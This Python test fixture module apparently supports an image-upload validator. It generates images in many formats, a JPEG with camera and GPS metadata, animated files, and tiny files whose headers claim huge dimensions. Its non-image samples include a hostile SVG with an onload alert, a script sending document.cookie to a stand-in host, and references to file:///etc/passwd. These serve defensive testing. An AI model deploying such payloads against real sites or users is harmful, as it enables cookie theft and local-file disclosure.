"""Small picture files made on the spot; no picture of a person is among them."""

from __future__ import annotations

import io
import struct
import zlib

import pillow_heif
from PIL import ExifTags, Image, ImageDraw

SIZE = (96, 64)


def pattern(size=SIZE):
    """Quarters of four colours: which way is up can be told."""
    picture = Image.new("RGB", size, "white")
    pen, (wide, high) = ImageDraw.Draw(picture), size
    pen.rectangle((0, 0, wide // 2, high // 2), fill="red")
    pen.rectangle((wide // 2, high // 2, wide, high), fill="blue")
    return picture


def written(picture, kind, **how):
    into = io.BytesIO()
    picture.save(into, kind, **how)
    return into.getvalue()


def every_kind():
    """A file of every kind that is read."""
    pillow_heif.register_heif_opener()
    kinds = {"JPEG": "image/jpeg", "PNG": "image/png", "WEBP": "image/webp", "GIF": "image/gif", "BMP": "image/bmp",
             "TIFF": "image/tiff", "AVIF": "image/avif", "HEIF": "image/heic"}  # fmt: skip
    return {media: written(pattern(), kind) for kind, media in kinds.items()}


def with_camera(turn=1):
    """A JPEG that says when, where and by which telephone it was taken, and how that was held."""
    tags = Image.Exif()
    tags[ExifTags.Base.Orientation] = turn
    tags[ExifTags.Base.Make], tags[ExifTags.Base.Model] = "Contoh", "HP 9"
    tags[ExifTags.Base.Software] = "Kamera 1.2"
    tags.get_ifd(ExifTags.IFD.Exif)[ExifTags.Base.DateTimeOriginal] = "2027:02:10 09:15:00"
    place = tags.get_ifd(ExifTags.IFD.GPSInfo)
    place[ExifTags.GPS.GPSLatitudeRef], place[ExifTags.GPS.GPSLatitude] = "S", (7.0, 40.0, 48.0)
    place[ExifTags.GPS.GPSLongitudeRef], place[ExifTags.GPS.GPSLongitude] = "E", (110.0, 50.0, 24.0)
    return written(pattern(), "JPEG", exif=tags, quality=95)


def animated(kind):
    """Three frames, the first red and blue, the others green."""
    green = Image.new("RGB", SIZE, "green")
    return written(pattern(), kind, save_all=True, append_images=[green, green], duration=100)


def png_that_says(width, height):
    """A PNG of a few bytes that claims to be that large."""

    def chunk(name, body):
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(100))) + chunk(b"IEND", b"")


def jpeg_that_says(width, height, *, progressive=False):
    """A JPEG of a few bytes that claims to be that large."""
    data = bytearray(written(pattern(), "JPEG", progressive=progressive))
    start = data.find(b"\xff\xc2" if progressive else b"\xff\xc0")
    data[start + 5 : start + 9] = struct.pack(">HH", height, width)
    return bytes(data)


SVG = b"""<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">
<script>fetch('http://contoh.invalid/'+document.cookie)</script>
<image href="file:///etc/passwd"/></svg>"""
NO_PICTURES = {
    "svg": SVG,
    "svg with a mark": b"\xef\xbb\xbf" + SVG,
    "pdf": b"%PDF-1.7\n1 0 obj\n",
    "postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(x) run\n",
    "html": b"<!doctype html><script>1</script>",
    "playlist": b"#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n",
    "text": b"halo",
    "nothing": b"",
    "sound": b"RIFF\x24\x00\x00\x00WAVEfmt ",
}
